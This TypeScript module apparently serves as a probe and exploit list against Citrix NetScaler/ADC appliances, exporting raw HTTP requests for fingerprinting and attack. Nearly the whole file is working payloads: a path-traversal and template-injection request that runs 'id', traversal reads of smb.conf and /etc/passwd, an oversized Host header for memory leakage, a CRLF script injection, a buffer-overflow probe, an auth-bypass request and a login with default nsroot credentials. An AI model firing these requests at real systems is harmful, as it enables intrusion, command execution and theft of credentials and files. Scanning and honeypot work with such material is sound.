import { httpRequest } from '../http-request.ts'

const form = (target: string, body: string, headers: Record<string, string> = {}): Buffer =>
  httpRequest('POST', target, body, { 'Content-Type': 'application/x-www-form-urlencoded', ...headers })

/** The marks of a build, the logins, and every hole: planted templates, leaks, the management side. */
export default [
  Buffer.concat(
    ['/', '/vpn/index.html', '/logon/LogonPoint/index.html', '/vpn/pluginlist.xml', '/epa/scripts/win/nsepa_setup.exe', '/nothing'].map(
      (path) => httpRequest('GET', path),
    ),
  ),
  httpRequest('HEAD', '/vpn/js/rdx/core/lang/rdx_en.json.gz', '', {
    'If-Modified-Since': 'Wed, 01 Jan 2020 00:00:00 GMT',
    Range: 'bytes=4-7',
  }),
  form('/cgi/login', 'login=admin&passwd=x'),
  form('/nf/auth/doAuthentication.do', 'login=a&passwd=b&savecredentials=false&nsg-x1-logon-button=Log+On&StateContext='),
  httpRequest('GET', '/vpn/../vpns/cfg/smb.conf'),
  Buffer.concat([
    form('/vpn/../vpns/portal/scripts/newbm.pl', "url=a&title=[%25+template.new({'BLOCK'%3d'print+`id`'})%25]&desc=d&UI_inuse=a", {
      NSC_USER: '../../../netscaler/portal/templates/abc',
      NSC_NONCE: 'nsroot',
    }),
    httpRequest('GET', '/vpn/../vpns/portal/abc.xml', '', { NSC_USER: 'nsroot' }),
  ]),
  httpRequest('GET', '/oauth/idp/.well-known/openid-configuration', '', { Host: 'a'.repeat(6000) }),
  form('/logon/LogonPoint/Authentication/GetUserName', '', { Cookie: `NSC_AAAC=${'0'.repeat(64)}45525d5f4f58455e445a4a42` }),
  form('/p/u/doAuthentication.do', 'login'),
  httpRequest('GET', '/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a<script>alert(1)</script>'),
  httpRequest('GET', `/gwtest/formssso?event=start&target=${'%41'.repeat(300)}`),
  httpRequest(
    'POST',
    '/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1',
    '<appfwprofile><login></login></appfwprofile>',
    {
      'Content-Type': 'application/xml',
      'X-NITRO-USER': 'a',
      'X-NITRO-PASS': 'b',
    },
  ),
  httpRequest('POST', '/rapi/filedownload?filter=path:%2Fetc%2Fpasswd', '<clipermission></clipermission>', {
    rand_key: '1.2',
    Cookie: 'SESSID=x',
  }),
  httpRequest('GET', '/nitro/v1/config/nsversion', '', { Authorization: 'Basic bnNyb290Om5zcm9vdA==' }),
]
